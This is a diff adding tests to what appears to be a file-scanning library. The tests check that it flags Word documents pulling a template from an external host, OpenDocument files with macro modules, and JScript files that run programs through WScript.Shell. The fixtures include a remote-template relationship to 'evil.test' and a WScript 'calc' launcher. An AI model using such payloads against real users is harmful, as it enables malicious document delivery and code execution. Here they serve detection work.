@@ -141,6 +141,41 @@ describe('content', () => {
   })
 })
 
+const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const withTemplate = (target: string) =>
+  zipSync({
+    'word/document.xml': strToU8('<w/>'),
+    'word/_rels/settings.xml.rels': strToU8(
+      `<Relationships><Relationship Id="r1" Type="${RELATIONS}/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
+    ),
+  })
+
+describe('a document', () => {
+  it('that fetches its template from the web is active', () => {
+    expect(look('a.docx', withTemplate('http://evil.test/t.dotm')).script).toBe('attachedTemplate')
+    expect(look('a.zip', zipSync({ 'a.docx': withTemplate('https://evil.test/t') })).script).toBe('attachedTemplate')
+  })
+  it.each([
+    'file:///C:/Users/anna/Normal.dotm',
+    '\\\\srv\\templates\\letter.dotx',
+    'https://acme.sharepoint.com/t/letter.dotx',
+  ])('with a template of its office is not: %s', (target) =>
+    expect(look('a.docx', withTemplate(target)).script).toBeNull(),
+  )
+  it('of OpenDocument has macros where a module is, not where their library is empty', () => {
+    const odt = (name: string) =>
+      zipSync({ mimetype: strToU8('application/vnd.oasis.opendocument.text'), [name]: strToU8('<x/>') })
+    expect(look('a.odt', odt('Basic/Standard/Module1.xml')).macro).toBe(true)
+    expect(look('a.odt', odt('Scripts/python/run.py')).macro).toBe(true)
+    expect(look('a.odt', odt('Basic/Standard/script-lb.xml')).macro).toBe(false)
+  })
+})
+
+it('a script that drives Windows is a program, and one for pages is not', () => {
+  expect(look('invoice.js', 'var s=new ActiveXObject("WScript.Shell");s.Run("calc")').executable).toMatch(/WScript/)
+  expect(look('old.js', 'var x=new ActiveXObject("Microsoft.XMLHTTP")').executable).toBeNull()
+})
+
 describe('an archive', () => {
   it('is a bomb by ratio, and costs no more than the bound to see it', () => {
     expect(look('a.zip', zipSync({ a: new Uint8Array(60_000_000) }, { level: 9 })).archive?.bomb).toBe('ratio')
